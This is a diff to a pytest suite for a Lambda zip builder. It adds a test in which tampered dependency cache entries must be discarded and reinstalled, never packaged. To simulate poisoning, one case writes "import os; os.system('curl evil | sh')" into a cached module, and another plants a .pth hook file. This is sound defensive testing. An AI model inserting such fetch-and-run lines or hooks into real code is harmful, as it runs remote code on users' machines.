@@ -239,7 +239,7 @@ def test_dependencies_are_vendored_without_bin_or_installer_files_and_source_win
     with zipfile.ZipFile(built.path) as zf:
         assert zf.read("tinydep/data.txt") == b"overridden by the app\n"
     # pip did create the console script; the build left it out.
-    [deps_dir] = (tmp_path / "deps").iterdir()
+    [deps_dir] = [p for p in (tmp_path / "deps").iterdir() if p.is_dir()]
     assert (deps_dir / "bin" / "tinydep-cli").is_file()
 
 
@@ -252,7 +252,7 @@ def test_second_build_with_the_same_requirements_uses_the_cache_not_pip(tmp_path
     second = build_lambda_zip(tmp_path / "src", tmp_path / "out2", requirements=req, deps_cache=tmp_path / "deps")
 
     assert second.sha256 == first.sha256
-    assert len(list((tmp_path / "deps").iterdir())) == 1  # one cache entry, no leftover temporary directory
+    assert len([p for p in (tmp_path / "deps").iterdir() if p.is_dir()]) == 1  # one cache entry, no leftover temporary directory
 
 
 def test_install_dependencies_calls_pip_once_per_requirements_content(tmp_path):
@@ -275,6 +275,34 @@ def test_install_dependencies_calls_pip_once_per_requirements_content(tmp_path):
     assert len(calls) == 2
 
 
+@pytest.mark.parametrize("poison", ["edit a module", "add a file", "remove a file"])
+def test_a_modified_dependency_cache_entry_is_discarded_reinstalled_and_reported_never_packaged(tmp_path, poison):
+    """The cache is shared by every app built here: what another process changed in an entry is never zipped."""
+    req = _offline_requirements(tmp_path, "tinydep")
+    _write_tree(tmp_path / "src", SOURCE_FILES)
+    first = build_lambda_zip(tmp_path / "src", tmp_path / "out", requirements=req, deps_cache=tmp_path / "deps")
+    [entry] = [p for p in (tmp_path / "deps").iterdir() if p.is_dir()]
+    if poison == "edit a module":
+        with (entry / "tinydep" / "__init__.py").open("a") as fh:
+            fh.write("import os; os.system('curl evil | sh')\n")
+    elif poison == "add a file":
+        (entry / "zz_hook.pth").write_text("import os\n")
+    else:
+        (entry / "tinydep" / "__init__.py").unlink()
+    notes: list[str] = []
+
+    again = build_lambda_zip(tmp_path / "src", tmp_path / "out2", requirements=req, deps_cache=tmp_path / "deps",
+                             report=notes.append)
+
+    assert again.sha256 == first.sha256  # installed again: byte-identical to the clean build
+    [note] = notes
+    assert entry.name in note and "discarded and installed again" in note
+    assert ("zz_hook.pth" if poison == "add a file" else "tinydep/__init__.py") in note
+    notes.clear()
+    build_lambda_zip(tmp_path / "src", tmp_path / "out3", requirements=req, deps_cache=tmp_path / "deps", report=notes.append)
+    assert notes == []  # the rebuilt entry is proven and reused
+
+
 def test_pip_failure_names_the_requirements_file_and_pips_last_error(tmp_path):
     req = _offline_requirements(tmp_path, "nosuchpkg-slipway")
     _write_tree(tmp_path / "src", SOURCE_FILES)
@@ -289,7 +317,7 @@ def test_pip_failure_names_the_requirements_file_and_pips_last_error(tmp_path):
     assert caught.value.ref == "dependency-install-failed"
     assert caught.value.evidence["exit_code"] != 0
     assert "nosuchpkg-slipway" in caught.value.evidence["output_tail"]
-    assert list((tmp_path / "deps").iterdir()) == []  # no half-filled cache entry
+    assert [p.name for p in (tmp_path / "deps").iterdir() if not p.name.endswith(".lock")] == []  # no half-filled cache entry
     assert not caught.value.transient  # a requirement that does not exist is not retried
 
 
